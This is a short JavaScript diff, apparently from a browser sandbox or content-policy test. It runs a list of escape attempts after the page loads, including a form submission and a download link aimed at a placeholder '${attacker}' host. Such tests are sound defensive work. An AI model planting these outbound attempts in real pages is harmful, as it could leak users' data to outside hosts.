@@ -57,6 +57,8 @@ const tries = {
   form: () => { const f = document.getElementById('form'); f.target = 'nowhere'; f.submit(); },
   download: () => { const a = document.createElement('a'); a.href = '${attacker}/download'; a.download = 'x'; a.click(); },
 };
+// Some tries lead the page away: only once all that its text asks for has had its turn.
+await new Promise((go) => (document.readyState === 'complete' ? go() : addEventListener('load', go)));
 for (const attempt of Object.values(tries)) {
   try { Promise.resolve(attempt()).catch(() => undefined); } catch {}
 }
